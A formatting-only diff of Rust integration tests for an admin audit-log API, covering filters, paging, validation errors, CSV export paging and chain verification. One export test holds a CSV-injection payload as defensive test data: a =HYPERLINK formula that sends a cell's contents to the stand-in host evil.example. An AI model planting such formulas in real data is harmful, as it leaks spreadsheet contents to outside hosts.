@@ -30,9 +30,17 @@ pub async fn seed(
     user_agent: &str,
 ) {
     let meta = [("reason", "seeded")];
-    audit::record_by(&app.deps, &caller(user_agent), actor, kind, user, Outcome::Success, &meta)
-        .await
-        .unwrap();
+    audit::record_by(
+        &app.deps,
+        &caller(user_agent),
+        actor,
+        kind,
+        user,
+        Outcome::Success,
+        &meta,
+    )
+    .await
+    .unwrap();
 }
 
 /// Every row of an export, following its `Link` headers; the number of data rows per response.
@@ -64,7 +72,10 @@ async fn export_all(app: &TestApp, path: &str, access: &str) -> (Vec<Vec<String>
         let (ok, parsed, stderr) = python("parse_csv.py", &body);
         assert!(ok, "{stderr}");
         let parsed: Vec<Vec<String>> = serde_json::from_value(parsed).unwrap();
-        assert_eq!(parsed[0], EXPORT_COLUMNS, "each response opens with the header row");
+        assert_eq!(
+            parsed[0], EXPORT_COLUMNS,
+            "each response opens with the header row"
+        );
         sizes.push(parsed.len() - 1);
         rows.extend(parsed.into_iter().skip(1));
     }
@@ -76,56 +87,116 @@ async fn the_trail_is_searched_by_each_filter_newest_first_a_page_at_a_time() {
     for (app, clock) in on_both_stores(&[]).await {
         let (_, admin, admin_id) = app.signed_in_with(&[Role::Admin]).await;
         let admin_id = UserId::parse(&admin_id).unwrap();
-        let (ada, bob) = (UserId::new(app.deps.clock.now()), UserId::new(app.deps.clock.now()));
+        let (ada, bob) = (
+            UserId::new(app.deps.clock.now()),
+            UserId::new(app.deps.clock.now()),
+        );
         let start = app.deps.clock.now();
         for i in 0..6 {
             clock.advance(time::Duration::seconds(10));
             let user = if i % 2 == 0 { &ada } else { &bob };
             let actor = (i < 2).then_some(&admin_id);
-            let kind = if i % 3 == 0 { AuditType::AdminUserLocked } else { AuditType::LoginFailed };
+            let kind = if i % 3 == 0 {
+                AuditType::AdminUserLocked
+            } else {
+                AuditType::LoginFailed
+            };
             seed(&app, actor, kind, Some(user), "Firefox").await;
         }
-        let for_ada = app.all_pages(&format!("/v1/admin/audit-logs?userId={ada}&limit=2"), &admin).await;
+        let for_ada = app
+            .all_pages(
+                &format!("/v1/admin/audit-logs?userId={ada}&limit=2"),
+                &admin,
+            )
+            .await;
         assert_eq!(for_ada.len(), 3);
         let times: Vec<&str> = for_ada.iter().map(|e| e["at"].as_str().unwrap()).collect();
         let mut sorted = times.clone();
         sorted.sort_by(|a, b| b.cmp(a));
         assert_eq!(times, sorted, "newest first");
         let e = &for_ada[0];
-        for field in ["id", "at", "type", "userId", "ip", "userAgent", "requestId", "outcome", "metadata"] {
+        for field in [
+            "id",
+            "at",
+            "type",
+            "userId",
+            "ip",
+            "userAgent",
+            "requestId",
+            "outcome",
+            "metadata",
+        ] {
             assert!(e.get(field).is_some_and(|v| !v.is_null()), "{field} in {e}");
         }
-        assert!(e.get("chain").is_none(), "the link is for verification, not the contract");
+        assert!(
+            e.get("chain").is_none(),
+            "the link is for verification, not the contract"
+        );
         let by_actor = app
-            .all_pages(&format!("/v1/admin/audit-logs?actorId={admin_id}&type=admin.user_locked"), &admin)
+            .all_pages(
+                &format!("/v1/admin/audit-logs?actorId={admin_id}&type=admin.user_locked"),
+                &admin,
+            )
             .await;
         assert_eq!(by_actor.len(), 1);
         assert_eq!(by_actor[0]["userId"], ada.to_string());
-        let from = (start + time::Duration::seconds(25)).format(&Rfc3339).unwrap();
-        let to = (start + time::Duration::seconds(45)).format(&Rfc3339).unwrap();
+        let from = (start + time::Duration::seconds(25))
+            .format(&Rfc3339)
+            .unwrap();
+        let to = (start + time::Duration::seconds(45))
+            .format(&Rfc3339)
+            .unwrap();
         let window = app
             .all_pages(
-                &format!("/v1/admin/audit-logs?userId={bob}&from={}&to={}", super::urlencoding(&from), super::urlencoding(&to)),
+                &format!(
+                    "/v1/admin/audit-logs?userId={bob}&from={}&to={}",
+                    super::urlencoding(&from),
+                    super::urlencoding(&to)
+                ),
                 &admin,
             )
             .await;
         assert_eq!(window.len(), 1, "only bob's event at +40 s: {window:?}");
 
-        for query in ["userId=nobody", "actorId=1", "type=login.exploded", "from=yesterday", "to=2026-13-01T00:00:00Z", "limit=0"] {
+        for query in [
+            "userId=nobody",
+            "actorId=1",
+            "type=login.exploded",
+            "from=yesterday",
+            "to=2026-13-01T00:00:00Z",
+            "limit=0",
+        ] {
             app.admin_get(&format!("/v1/admin/audit-logs?{query}"), &admin)
                 .await
                 .assert_problem(422, "validation_failed");
         }
-        let reversed = format!("/v1/admin/audit-logs?from={}&to={}", super::urlencoding(&to), super::urlencoding(&from));
-        app.admin_get(&reversed, &admin).await.assert_problem(422, "validation_failed");
-        let page = app.admin_get(&format!("/v1/admin/audit-logs?userId={ada}&limit=1"), &admin).await;
+        let reversed = format!(
+            "/v1/admin/audit-logs?from={}&to={}",
+            super::urlencoding(&to),
+            super::urlencoding(&from)
+        );
+        app.admin_get(&reversed, &admin)
+            .await
+            .assert_problem(422, "validation_failed");
+        let page = app
+            .admin_get(
+                &format!("/v1/admin/audit-logs?userId={ada}&limit=1"),
+                &admin,
+            )
+            .await;
         let cursor = super::urlencoding(page.body["nextCursor"].as_str().unwrap());
-        app.admin_get(&format!("/v1/admin/audit-logs?userId={bob}&limit=1&cursor={cursor}"), &admin)
-            .await
-            .assert_problem(400, "bad_request");
-        app.admin_get(&format!("/v1/admin/audit-logs?limit=1&cursor=x{cursor}"), &admin)
-            .await
-            .assert_problem(400, "bad_request");
+        app.admin_get(
+            &format!("/v1/admin/audit-logs?userId={bob}&limit=1&cursor={cursor}"),
+            &admin,
+        )
+        .await
+        .assert_problem(400, "bad_request");
+        app.admin_get(
+            &format!("/v1/admin/audit-logs?limit=1&cursor=x{cursor}"),
+            &admin,
+        )
+        .await
+        .assert_problem(400, "bad_request");
     }
 }
 
@@ -146,12 +217,24 @@ async fn exports_are_rfc_4180_with_inert_formulas_and_page_through_link_headers(
         for ua in hostile {
             seed(&app, None, AuditType::LoginFailed, Some(&user), ua).await;
         }
-        let (rows, sizes) = export_all(&app, &format!("/v1/admin/audit-logs/export?userId={user}"), &admin).await;
-        assert_eq!(sizes, [3, 3, 1], "three rows a response, the rest behind Link");
+        let (rows, sizes) = export_all(
+            &app,
+            &format!("/v1/admin/audit-logs/export?userId={user}"),
+            &admin,
+        )
+        .await;
+        assert_eq!(
+            sizes,
+            [3, 3, 1],
+            "three rows a response, the rest behind Link"
+        );
         assert_eq!(rows.len(), hostile.len());
         for row in &rows {
             for cell in row {
-                assert!(!could_start_a_formula(cell), "{cell:?} would open as a formula");
+                assert!(
+                    !could_start_a_formula(cell),
+                    "{cell:?} would open as a formula"
+                );
             }
             assert_eq!(row[2], "login.failed");
             assert_eq!(row[5], user.to_string());
@@ -159,8 +242,14 @@ async fn exports_are_rfc_4180_with_inert_formulas_and_page_through_link_headers(
             assert_eq!(meta["reason"], "seeded");
         }
         let agents: Vec<&str> = rows.iter().map(|r| r[7].as_str()).collect();
-        assert!(agents.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"), "{agents:?}");
-        assert!(agents.contains(&"plain, with \"quotes\""), "quoted, kept whole");
+        assert!(
+            agents.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"),
+            "{agents:?}"
+        );
+        assert!(
+            agents.contains(&"plain, with \"quotes\""),
+            "quoted, kept whole"
+        );
     }
 }
 
@@ -184,7 +273,10 @@ async fn a_hundred_thousand_events_export_ten_thousand_rows_a_response() {
             user_agent: Some(agent.clone()),
             request_id: format!("req-{i}"),
             outcome: Outcome::Failure,
-            metadata: serde_json::Map::from_iter([("reason".to_owned(), Value::from("wrong_password"))]),
+            metadata: serde_json::Map::from_iter([(
+                "reason".to_owned(),
+                Value::from("wrong_password"),
+            )]),
             chain: None,
         };
         let p = (i % 16) as u16;
@@ -196,14 +288,27 @@ async fn a_hundred_thousand_events_export_ten_thousand_rows_a_response() {
     // Signed in after the import: its own events link after the imported heads.
     let (_, admin, _) = app.signed_in_with(&[Role::Admin]).await;
     let from = super::urlencoding(&start.format(&Rfc3339).unwrap());
-    let (rows, sizes) = export_all(&app, &format!("/v1/admin/audit-logs/export?type=login.failed&from={from}"), &admin).await;
+    let (rows, sizes) = export_all(
+        &app,
+        &format!("/v1/admin/audit-logs/export?type=login.failed&from={from}"),
+        &admin,
+    )
+    .await;
     assert!(sizes.iter().all(|n| *n <= 10_000), "{sizes:?}");
-    assert_eq!(sizes.iter().filter(|n| **n == 10_000).count(), 10, "{sizes:?}");
+    assert_eq!(
+        sizes.iter().filter(|n| **n == 10_000).count(),
+        10,
+        "{sizes:?}"
+    );
     let ids: std::collections::HashSet<&str> = rows.iter().map(|r| r[0].as_str()).collect();
     assert_eq!(ids.len(), 100_000, "every event once");
     let verified = app
         .admin_get(&format!("/v1/admin/audit-logs/verify?from={from}"), &admin)
         .await;
     assert_eq!(verified.body["ok"], true, "{}", verified.body);
-    assert!(verified.body["checked"].as_u64().unwrap() >= 100_000, "{}", verified.body);
+    assert!(
+        verified.body["checked"].as_u64().unwrap() >= 100_000,
+        "{}",
+        verified.body
+    );
 }
